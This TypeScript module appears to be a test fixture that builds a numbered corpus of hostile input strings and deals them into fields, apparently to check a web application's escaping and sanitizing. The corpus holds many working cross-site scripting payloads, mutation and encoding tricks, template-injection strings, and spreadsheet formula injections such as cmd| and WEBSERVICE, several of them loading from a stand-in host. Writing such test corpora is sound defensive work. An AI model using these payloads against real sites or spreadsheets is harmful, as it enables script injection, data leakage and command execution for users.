/** Where nothing of a page may ever ask: no such host exists. */
export const ELSEWHERE = 'evil.invalid';

/** Some words that somebody might write to have them run, load or fill in where others read them. */
export interface HostileWords {
  /** What it says of itself when it runs or asks elsewhere. */
  number: number;
  family: Family;
  text: string;
}

/** In the families of `MARKUP` every text does something, or leaves a forbidden part behind, in a page that it is written into as it is. */
export const MARKUP = ['handler', 'script', 'address', 'loading', 'break-out', 'mutation'] as const;
type Family = (typeof MARKUP)[number] | 'in a script' | 'template' | 'markdown' | 'comment' | 'encoded' | 'odd' | 'formula';

type Made = (number: number) => string;

const run = (number: number): string => `__ran(${number})`;
const there = (number: number): string => `https://${ELSEWHERE}/${number}`;
/** Every pair of one and the other. */
const times = <A, B>(some: readonly A[], others: readonly B[]): [A, B][] => some.flatMap((one) => others.map((other): [A, B] => [one, other]));
const entities = (text: string, base: 10 | 16): string => [...text].map((letter) => `&#${base === 16 ? 'x' : ''}${(letter.codePointAt(0) ?? 0).toString(base)};`).join('');

/** Ways to say the same call in a handler. */
const CALLS: Made[] = [
  run,
  (n) => `window['__r'+'an'](${n})`,
  (n) => `top.__ran\`${n}\``,
  (n) => entities(run(n), 10),
  (n) => `\\u005f_ran(${n})`,
  (n) => `setTimeout('${run(n)}')`,
];

/** Elements that do something by themselves or when they are touched, around what they are to do. */
const HANDLERS: ((call: string) => string)[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<IMG SRC=x OnErRoR="${call}">`,
  (call) => `<img/src="x"/onerror=${call}//`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg\n\tonload\n=\n"${call}">`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<body onload="${call}">`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<details open ontoggle="${call}">`,
  (call) => `<video><source onerror="${call}">`,
  (call) => `<audio src=x onerror="${call}">`,
  (call) => `<iframe onload="${call}"></iframe>`,
  (call) => `<p style="animation:pulse 1s" onanimationstart="${call}">`,
  (call) => `<b tabindex=0 onpointerover="${call}" onclick="${call}">press here</b>`,
];

const SCRIPTS: ((n: number) => string)[] = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<ScRiPt\n>${run(n)}</sCrIpT >`,
  (n) => `<script/x>${run(n)}</script/x>`,
  (n) => `<script type=module>${run(n)}</script>`,
  (n) => `<script src=${there(n)}></script>`,
  (n) => `<script src=//${ELSEWHERE}/${n}></script>`,
  (n) => `<script src="data:text/javascript,${run(n)}"></script>`,
  (n) => `</script><script>${run(n)}</script>`,
  (n) => `<<script>${run(n)}//<</script>`,
  (n) => `<svg><script>${entities(run(n), 16)}</script></svg>`,
  (n) => `<svg><script href=${there(n)} /></svg>`,
  (n) => `<script nonce=x>${run(n)}</script>`,
];

/** Addresses that a link or a frame must not have. */
const ADDRESSES: Made[] = [
  (n) => `javascript:${run(n)}`,
  (n) => `JaVaScRiPt:${run(n)}`,
  (n) => `java&Tab;script:${run(n)}`,
  (n) => `&#1;javascript:${run(n)}`,
  (n) => `${entities('javascript', 10)}:${run(n)}`,
  (n) => `data:text/html,<svg onload=parent.${run(n)}>`,
  (n) => `//${ELSEWHERE}/${n}`,
];
const TAKES_ADDRESS: ((address: string) => string)[] = [
  (to) => `<a href="${to}">read on</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form><button formaction="${to}">Send</button></form>`,
  (to) => `<form action="${to}"><input type=submit></form>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`,
  (to) => `<base href="${to}">`,
  (to) => `<svg><a xlink:href="${to}"><text y=9>read on</text></a></svg>`,
  (to) => `<math href="${to}"><mtext>read on</mtext></math>`,
  (to) => `<meta http-equiv=refresh content="9;url=${to}">`,
];

const LOADING: Made[] = [
  (n) => `<img src=${there(n)}>`,
  (n) => `<img srcset="${there(n)} 1x">`,
  (n) => `<picture><source srcset=${there(n)}><img></picture>`,
  (n) => `<video poster=${there(n)}></video>`,
  (n) => `<audio src=${there(n)} autoplay></audio>`,
  (n) => `<input type=image src=${there(n)}>`,
  (n) => `<svg><image href=${there(n)} /></svg>`,
  (n) => `<svg><use href="${there(n)}#a" /></svg>`,
  (n) => `<svg><filter id=f><feImage xlink:href=${there(n)} /></filter></svg>`,
  (n) => `<table background=${there(n)}></table>`,
  (n) => `<p style="background:url(${there(n)})">`,
  (n) => `<p style="list-style-image:u\\72l('${there(n)}')">`,
  (n) => `<style>@import '${there(n)}';</style>`,
  (n) => `<style>*{background:url(${there(n)})}</style>`,
  (n) => `<link rel=stylesheet href=${there(n)}>`,
  (n) => `<link rel=icon href=${there(n)}>`,
  (n) => `<link rel=prefetch href=${there(n)}>`,
  (n) => `<a ping=${there(n)} href=/>read on</a>`,
];

/** What may end the place that a text stands in. */
const ENDS = ['"', "'", '`', '">', "'>", '</title>', '</textarea>', '</style>', '</script>', '</option></select>', '</template>', '</noscript>', '</svg>', '-->', ']]>', '\\">', '\u2028>', ' x=">" >'];
const BREAKS: ((call: string) => string)[] = [(call) => `<img src=x onerror=${call}>`, (call) => ` autofocus tabindex=0 onfocus="${call}" x="<i onclick=${call}>`];

/** Texts that are something else once a page has read and written them. */
const FOREIGN = ['svg', 'math'];
const RAW = ['style', 'title', 'textarea', 'noscript', 'xmp', 'noembed'];
const MUTATIONS: ((foreign: string, raw: string, call: string) => string)[] = [
  (foreign, raw, call) => `<${foreign}></p><${raw}><a id="</${raw}><img src=1 onerror=${call}>">`,
  (foreign, raw, call) => `<form><${foreign}><mtext></form><form><mglyph><${raw}></${foreign}><img src onerror=${call}>`,
];

const IN_A_SCRIPT: Made[] = [
  (n) => `';${run(n)};//`,
  (n) => `\\';${run(n)};//`,
  (n) => `"};${run(n)};({"a":"`,
  (n) => `"-${run(n)}-"`,
  (n) => `\u2028${run(n)}\u2029`,
  (n) => `]]);${run(n)};self.__next_f.push([1,"`,
  (n) => `*/${run(n)}/*`,
  (n) => `*/--></title></style></textarea></script><svg onload=${run(n)}>`,
];

const TEMPLATES: Made[] = [
  (n) => `{{constructor.constructor('${run(n)}')()}}`,
  (n) => `\${${run(n)}}`,
  (n) => `#{${run(n)}}`,
  (n) => `<%= ${run(n)} %>`,
  (n) => `{%raw%}${run(n)}{%endraw%}`,
  (n) => `{name} {count} {game} no. ${n}`,
  (n) => `{count, plural, one {# chip} other {# chips}} ${n}`,
  (n) => `'{'${n}'}' ''{`,
  (n) => `<way>${n}</way><b>{team}</b>`,
  (n) => `{{${n}}} }} {{`,
  (n) => `$& $1 $\` $' $$ ${n}`,
  (n) => `%s %d %n %00 ${n}`,
  (n) => `__proto__ constructor toString ${n}`,
  (n) => `$L${n} $@${n} $undefined`,
];

const MARKDOWN: Made[] = [
  (n) => `![a map](${there(n)})`,
  (n) => `[read on](javascript:${run(n)})`,
  (n) => `[read on](<java\tscript:${run(n)}>)`,
  (n) => `<javascript:${run(n)}>`,
  (n) => `![x](x"onerror="${run(n)})`,
  (n) => `[x]: data:text/html,${run(n)} "x"`,
  (n) => `**<img src=x onerror=${run(n)}>**`,
  (n) => `| <svg onload=${run(n)}> | \`${n}\` |`,
  (n) => `[![a](${there(n)})](vbscript:${run(n)})`,
];

const COMMENTS: Made[] = [
  (n) => `<!--<img src="--><img src=x onerror=${run(n)}>">`,
  (n) => `<!--><svg onload=${run(n)}>-->`,
  (n) => `--!><svg onload=${run(n)}>`,
  (n) => `<![CDATA[<svg onload=${run(n)}>]]>`,
  (n) => `<!--[if gte IE 4]><script>${run(n)}</script><![endif]-->`,
  (n) => `<?xml-stylesheet href="${there(n)}"?>`,
  (n) => `<!DOCTYPE a [<!ENTITY e SYSTEM "${there(n)}">]><a>&e;</a>`,
  (n) => `<!-- $--><!--/$--><script>${run(n)}</script>`,
];

const ENCODED: Made[] = [
  (n) => `&lt;img src=x onerror=${run(n)}&gt;`,
  (n) => entities(`<svg onload=${run(n)}>`, 10),
  (n) => entities(`<svg onload=${run(n)}>`, 16),
  (n) => `&amp;lt;svg onload=${run(n)}&amp;gt;`,
  (n) => `%3Csvg%20onload=${run(n)}%3E`,
  (n) => `%253Csvg onload=${run(n)}%253E`,
  (n) => `\\u003csvg onload=${run(n)}\\u003e`,
  (n) => `\\x3csvg onload=${run(n)}\\x3e`,
  (n) => `\uff1csvg onload=${run(n)}\uff1e`,
  (n) => `+ADw-svg onload=${run(n)}+AD4-`,
];

const ODD: Made[] = [
  (n) => `\u202E<svg onload=${run(n)}>\u202C`,
  (n) => `\u2066<img src=x onerror=${run(n)}>\u2069`,
  (n) => `<s\u200Bvg onload=${run(n)}>`,
  (n) => `<img src=x on\u0000error=${run(n)}>`,
  (n) => `\u0000<svg onload=${run(n)}>`,
  (n) => `<svg\u000Conload=${run(n)}>`,
  (n) => `<\ud83d\ude00svg onload=${run(n)}>`,
  (n) => `${'<i>'.repeat(40)}<svg onload=${run(n)}>`,
];

const FORMULAS: Made[] = [
  (n) => `=HYPERLINK("${there(n)}","read on")`,
  (n) => `=WEBSERVICE("${there(n)}")`,
  (n) => `+cmd|' /c ${n}'!A0`,
  (n) => `-2+3+cmd|' /c ${n}'!A0`,
  (n) => `@SUM(${n},A1)`,
  (n) => `\t=IMPORTXML("${there(n)}","//a")`,
];

const FAMILIES: Record<Family, Made[]> = {
  handler: times(HANDLERS, CALLS).map(([around, call]) => (n) => around(call(n))),
  script: SCRIPTS,
  address: times(TAKES_ADDRESS, ADDRESSES).map(([around, address]) => (n) => around(address(n))),
  loading: LOADING,
  'break-out': times(ENDS, BREAKS).map(([end, around]) => (n) => end + around(run(n))),
  mutation: times(times(FOREIGN, RAW), MUTATIONS).map(([[foreign, raw], around]) => (n) => around(foreign, raw, run(n))),
  'in a script': IN_A_SCRIPT,
  template: TEMPLATES,
  markdown: MARKDOWN,
  comment: COMMENTS,
  encoded: ENCODED,
  odd: ODD,
  formula: FORMULAS,
};

/** Words of every family, each with a number of its own; always the same. */
export const HOSTILE_WORDS: readonly HostileWords[] = Object.entries(FAMILIES)
  .flatMap(([family, made]) => made.map((make) => ({ family: family as Family, make })))
  .map(({ family, make }, at) => ({ number: at + 1, family, text: make(at + 1) }));

/** Deals hostile words out, so that each comes to be written somewhere. */
export interface Dealer {
  /** The next words that fit into so many characters: one, or as many as `most`. */
  deal(longest: number, most?: number): string;
  /** How many have not been dealt yet. */
  left(): number;
}

/** Begins at any number and starts again when all were dealt. Those that `fits` refuses wait for a field that takes them. */
export function dealer(from = 0): Dealer {
  const order = [...HOSTILE_WORDS.slice(from), ...HOSTILE_WORDS.slice(0, from)];
  const dealt = new Set<number>();
  let waiting = order;
  return {
    left: () => HOSTILE_WORDS.length - dealt.size,
    deal(longest, most = 1) {
      const chosen: HostileWords[] = [];
      let room = longest;
      for (const words of [...waiting, ...order]) {
        if (chosen.length === most) break;
        if (words.text.length + 1 > room || chosen.includes(words)) continue;
        chosen.push(words);
        room -= words.text.length + 1;
      }
      for (const { number } of chosen) dealt.add(number);
      waiting = waiting.filter((words) => !chosen.includes(words));
      if (waiting.length === 0) waiting = order;
      return chosen.map(({ text }) => text).join('\n');
    },
  };
}
